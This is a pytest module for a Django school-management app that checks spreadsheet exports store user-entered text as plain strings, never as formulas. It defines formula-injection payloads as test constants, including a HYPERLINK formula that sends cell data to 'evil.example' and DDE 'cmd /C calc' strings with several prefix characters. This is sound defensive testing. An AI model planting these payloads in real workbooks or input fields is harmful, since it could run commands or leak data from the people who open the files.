"""Formula injection (OWASP "CSV injection"): text typed or uploaded by people reaches every
workbook we produce, and a spreadsheet application must show it, never run it.

A student imported with formula-looking names (and a teacher, a venue, a lesson topic, an exam
round, a centre and a certificate number written the same way) goes into every kind of workbook:
the three funder's reports, the applicants template and its per-row report, the exam round's
template and its per-row report, the data-subject export. Each is unzipped: no ``<f>`` element
holds any of that text, which is there as a string cell with the quote prefix."""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from lxml import etree
from openpyxl import Workbook
from openpyxl.cell import Cell

from courses.imports import COLUMNS
from courses.models import Attendance
from exams.models import ExamRegistration
from exams.services import exam_result_record
from school.models import Student, Venue
from school.reports import ReportRequest, report_write
from school.retention import student_export_data, student_export_xlsx
from school.spreadsheets import Formula, write_workbook
from tests.factories import (
    CycleFactory,
    EnrollmentFactory,
    ExamRoundFactory,
    LessonFactory,
    SchoolFactory,
    TeacherFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CALC = "=cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1+cmd|' /C calc'!A0"
CR = "\r=1+1+cmd|' /C calc'!A0"
# What any formula built from the text above would contain.
MARKERS = ("HYPERLINK", "evil.example", "cmd", "calc", "SUM", "1+1")
SKILLS = ("reading", "writing", "listening", "speaking")
PERIOD = (dt.date(2026, 1, 1), dt.date(2027, 12, 31))


def _sheet_parts(data: bytes) -> dict[str, etree._Element]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: etree.fromstring(archive.read(name))
            for name in archive.namelist()
            if re.fullmatch(r"xl/worksheets/[^/]+\.xml", name)
        }


def formulas_from_data(data: bytes) -> list[str]:
    found = []
    for name, root in _sheet_parts(data).items():
        for formula in root.iter("{*}f"):
            if any(marker in (formula.text or "") for marker in MARKERS):
                found.append(f"{name}: {formula.text}")
    return found


def texts(data: bytes) -> set[str]:
    """Every string a sheet holds as text (inline strings: all that openpyxl writes)."""
    return {
        "".join(cell.itertext())
        for root in _sheet_parts(data).values()
        for cell in root.iter("{*}is")
    }


def assert_safe(data: bytes, *expected: str) -> None:
    assert not formulas_from_data(data)
    held = texts(data)
    # The test means something only if the hostile text is really in the workbook.
    for text in expected:
        assert any(text in cell for cell in held), f"{text!r} is not in the workbook"


def upload(rows, header) -> io.BytesIO:
    """A sheet as someone fills it in: their text in string cells (typed after an apostrophe,
    or pasted), however it starts."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(header))
    for row in rows:
        cells = []
        for value in row:
            cell = Cell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
            cells.append(cell)
        sheet.append(cells)
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    out.name = "upload.xlsx"
    return out


def applicant(**values):
    base = {
        "first_name": HYPERLINK, "last_name": CALC, "first_name_latin": PLUS,
        "last_name_latin": AT, "date_of_birth": "1990-04-01", "gender": "female",
        "nationality": "SY", "labour_market_status": "unemployed", "isced_level": 3,
        "phone": "+30 691 234 5678",
    }  # fmt: skip
    base.update(values)
    return [base.get(column.name) for column in COLUMNS]


@pytest.fixture
def office(client):
    """A school whose people and records are named like formulas, and its coordinator signed in;
    the student comes in through the applicants import, as in the finding."""
    school = SchoolFactory(name=MINUS, operation_code=AT)
    coordinator = UserFactory(school=school, role="coordinator")
    client.force_login(coordinator)
    page = client.post(
        "/office/import/", {"file": upload([applicant()], [c.name for c in COLUMNS])}
    )
    assert page.status_code == 200
    student = Student.objects.get(school=school)
    assert (student.first_name, student.last_name) == (HYPERLINK, CALC)  # kept as written

    teacher = TeacherFactory(school=school, user__first_name=MINUS, user__last_name=TAB)
    venue = Venue.objects.create(school=school, name=CR)
    cycle = CycleFactory(school=school, venue=venue, code="A1-FORMULA")
    cycle.teachers.add(teacher)
    enrollment = EnrollmentFactory(
        cycle=cycle, student=student, status="completed", entry_date=dt.date(2026, 10, 5),
        exit_date=dt.date(2026, 11, 16), withdrawal_reason=PLUS,
    )  # fmt: skip
    lesson = LessonFactory(
        cycle=cycle, date=dt.date(2026, 11, 16), status="held", topic=AT, teacher=teacher
    )
    Attendance.objects.create(enrollment=enrollment, lesson=lesson, status="present")
    exam_round = ExamRoundFactory(
        school=school,
        name=HYPERLINK,
        centre=CALC,
        registration_deadline=dt.date(2026, 10, 1),
        exam_date=dt.date(2026, 11, 20),
    )
    registration = ExamRegistration.objects.create(
        exam_round=exam_round, student=student, cycle=cycle, eligibility_override_reason=MINUS
    )
    exam_result_record(
        registration=registration,
        points=dict.fromkeys(SKILLS, Decimal(20)),
        certificate_number=CALC,
    )
    return school, student, exam_round


@pytest.mark.parametrize("kind", ["esf-participants", "attendance-sheets", "exam-results"])
def test_reports_hold_peoples_text_as_text(office, kind, tmp_path):
    school, _student, _round = office
    path = tmp_path / f"{kind}.xlsx"
    report_write(
        kind=kind,
        request=ReportRequest(school=school, start=PERIOD[0], end=PERIOD[1]),
        path=str(path),
        progress=lambda percent: None,
    )
    expected = {
        "esf-participants": [AT],  # the operation code; the certificate number too:
        "attendance-sheets": [MINUS, AT, CR, f"{CALC} {HYPERLINK}"],
        "exam-results": [HYPERLINK, CALC, MINUS],
    }[kind]
    assert_safe(path.read_bytes(), *expected)


def test_the_participants_report_holds_the_certificate_number_as_text(office, tmp_path):
    school, student, _round = office
    Student.objects.filter(pk=student.pk).update(qualification_gained_on=dt.date(2026, 11, 20))
    path = tmp_path / "esf.xlsx"
    report_write(
        kind="esf-participants",
        request=ReportRequest(school=school, start=PERIOD[0], end=PERIOD[1]),
        path=str(path),
        progress=lambda percent: None,
    )
    assert_safe(path.read_bytes(), CALC)


def test_the_applicants_template_and_per_row_report_hold_text_as_text(office, client):
    template = client.get("/office/import/template.xlsx")
    assert template.status_code == 200
    assert not formulas_from_data(template.content)

    rows = [
        applicant(first_name="Omid", date_of_birth=CALC),  # "=cmd... is not a date"
        applicant(first_name="Olena", gender=HYPERLINK, unemployed_months=PLUS),
        applicant(first_name="Yusuf", nationality=AT, phone=MINUS),
    ]
    page = client.post("/office/import/", {"file": upload(rows, [c.name for c in COLUMNS])})
    assert page.status_code == 200
    report = client.get("/office/import/report.xlsx")
    assert report.status_code == 200
    assert_safe(report.content, CALC, PLUS, AT, MINUS)


def test_the_exam_rounds_template_and_per_row_report_hold_text_as_text(office, client):
    _school, _student, exam_round = office
    template = client.get(f"/office/exams/{exam_round.pk}/template.xlsx")
    assert template.status_code == 200
    assert_safe(template.content, HYPERLINK, CALC)

    header = ["first_name", "last_name", "date_of_birth", *SKILLS, "certificate_number"]
    rows = [
        [HYPERLINK, CALC, TAB, 20, 20, 20, 20, None],  # "\t=1+1... is not a date"
        [HYPERLINK, CALC, "1990-04-01", PLUS, 20, 20, 20, AT],
        [CR, MINUS, "1990-04-01", 20, 20, 20, 20, None],
    ]
    response = client.post(f"/office/exams/{exam_round.pk}/import/", {"file": upload(rows, header)})
    assert response.status_code == 302
    report = client.get(f"/office/exams/{exam_round.pk}/report.xlsx")
    assert report.status_code == 200
    assert_safe(report.content, TAB.strip())


def test_the_data_subject_export_holds_text_as_text(office):
    _school, student, _round = office
    data = student_export_data(
        student=student, include_special_category=False, reader=None, via="export"
    )
    assert_safe(student_export_xlsx(data), HYPERLINK, CALC, PLUS, AT)


def test_the_products_own_formulas_stay_formulas():
    small = write_workbook([("Sums", ["a", "total"], [[1, Formula("=SUM(A2:A2)")], [CALC, 2]])])
    assert [f.text for root in _sheet_parts(small).values() for f in root.iter("{*}f")] == [
        "SUM(A2:A2)"
    ]
    assert CALC in texts(small)
